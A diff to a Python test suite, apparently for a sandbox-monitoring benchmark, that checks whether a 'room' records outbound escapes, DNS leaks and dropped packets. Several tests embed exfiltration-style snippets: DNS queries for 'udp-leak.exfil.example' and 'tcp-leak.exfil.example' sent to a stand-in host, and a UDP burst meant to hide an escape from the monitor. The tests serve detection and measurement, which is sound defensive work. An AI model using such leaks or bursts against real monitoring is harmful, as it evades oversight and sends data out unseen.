@@ -97,15 +97,128 @@ def test_an_address_dialled_directly_and_bytes_that_are_not_http_are_on_the_reco
 
 
 def test_a_port_nobody_listens_on_and_other_protocols_are_escapes_never_silence():
+    # no pause before the room ends: what a process sent is on the room's socket once it returned
     wire, room, out = in_room('''
         try:
             socket.create_connection(("192.0.2.1", 9999), 3)
         except OSError as e:
             print("refused", e)
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.2", 5000))
-    ''', settle=0.3)
+    ''')
     assert "tcp to 192.0.2.1:9999" in room.account()["escapes"], out
     assert "udp to 192.0.2.2:5000" in room.account()["escapes"]
+
+
+def test_an_escape_the_rooms_thread_is_still_reading_is_kept_before_the_account(monkeypatch):
+    """The room's thread reads packets as they come; a drain (``end``'s, before the arm takes the
+    account) must not return while that thread holds an escape it has read but not kept. Before
+    the fix it did, and 1 run in 3 of the hostile suite's odd port scored answered on a loaded
+    machine. Here the thread's reading is held open until the second drain has begun."""
+    import threading
+
+    from guardbench.room import inside
+    syn = struct.pack("!HHIIBBHHH", 40000, 9999, 0, 0, 0x50, 0x02, 0, 0, 0)
+    packet = bytes([0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0, 127, 0, 0, 1, 192, 0, 2, 1]) + syn
+
+    class Socket:                     # the packet socket: one SYN as sent, then nothing
+        def __init__(self) -> None:
+            self.queue = [(packet, ("lo", 2048, 4, 772, b""))]
+
+        def recvfrom(self, size: int) -> tuple:
+            if not self.queue:
+                raise BlockingIOError
+            return self.queue.pop()
+
+        def getsockopt(self, *args: int) -> bytes:
+            return struct.pack("II", 1, 0)
+
+        def close(self) -> None:
+            pass
+
+    reading, second = threading.Event(), threading.Event()
+
+    def held(*args):
+        reading.set()
+        second.wait(5)
+        time.sleep(0.2)               # the second drain is waiting by now (or has returned)
+        return read(*args)
+    monkeypatch.setattr(inside, "read", held)
+    room = Room()
+    room._packets = Socket()          # type: ignore[assignment]
+    thread = threading.Thread(target=room.drain_packets)    # the room's thread
+    thread.start()
+    assert reading.wait(5)
+    second.set()
+    room.drain_packets()              # end()'s drain
+    kept = [e.line() for e in room.escapes]
+    thread.join(5)
+    room.close()
+    assert kept == ["tcp to 192.0.2.1:9999"]
+
+
+def test_lookups_sent_without_waiting_for_an_answer_are_on_the_record(monkeypatch):
+    """A DNS query over UDP, and one over TCP, each sent and abandoned at once (a leak needs no
+    answer), are recorded before the account is taken, however slowly the room answers."""
+    def slow(self, data, proto):
+        time.sleep(0.3)
+        return answer(self, data, proto)
+    answer = Resolver.answer
+    monkeypatch.setattr(Resolver, "answer", slow)
+    proxy = RecordingProxy().start()
+    proxy.route(make_wire(1, "room-test"))
+    room = Room().start()
+    proxy.serve_room(room)
+    try:
+        subprocess.run(room.command([sys.executable, "-c", textwrap.dedent('''
+            import socket, struct
+            def query(name):
+                labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+                return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", 1, 1)
+            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query("udp-leak.exfil.example"), ("192.0.2.53", 53))
+            q = query("tcp-leak.exfil.example")
+            with socket.create_connection(("192.0.2.53", 53), 3) as c:
+                c.sendall(len(q).to_bytes(2, "big") + q)
+        ''')]), env={"PATH": os.environ["PATH"]}, timeout=60, check=True)
+        room.end()
+        account = room.account()        # as the arm takes it (arms/external.py): before close()
+    finally:
+        proxy.close_room()
+        room.close()
+        proxy.close()
+    names = {d["name"] for d in account["dns"]}
+    assert {"udp-leak.exfil.example", "tcp-leak.exfil.example"} <= names, account
+
+
+def test_packets_the_room_could_not_read_are_counted_and_make_a_run_unmeasured():
+    """A burst the room's socket has no room for (a hostile system can send one to hide an escape
+    in it) is counted, never silently lost; the arm then marks what may be unseen."""
+    from guardbench.arms.base import Prepared
+    from guardbench.arms.external import record_room
+    proxy = RecordingProxy().start()
+    proxy.route(make_wire(1, "room-test"))
+    room = Room().start()
+    proxy.serve_room(room)
+    try:
+        assert room._packets is not None
+        room._packets.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)   # the kernel's least
+        with room._draining:                     # the room's thread cannot read meanwhile
+            subprocess.run(room.command([sys.executable, "-c", textwrap.dedent('''
+                import socket
+                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+                for i in range(200):
+                    s.sendto(b"x" * 1000, ("192.0.2.2", 5000 + i))
+            ''')]), env={"PATH": os.environ["PATH"]}, timeout=60, check=True)
+        room.end()
+    finally:
+        proxy.close_room()
+        room.close()
+        proxy.close()
+    account = room.account()
+    assert account["dropped"] > 0 and len(account["escapes"]) < 200, account
+    prepared = Prepared(session=None, world=None, setup_seq=0, secrets=())   # type: ignore[arg-type]
+    record_room(prepared, account, None)
+    assert any("could not read" in u and str(account["dropped"]) in u for u in prepared.unseen)
+    assert prepared.external["room"]["dropped"] == account["dropped"]
 
 
 def test_a_credential_sent_as_a_dns_lookup_is_recorded():
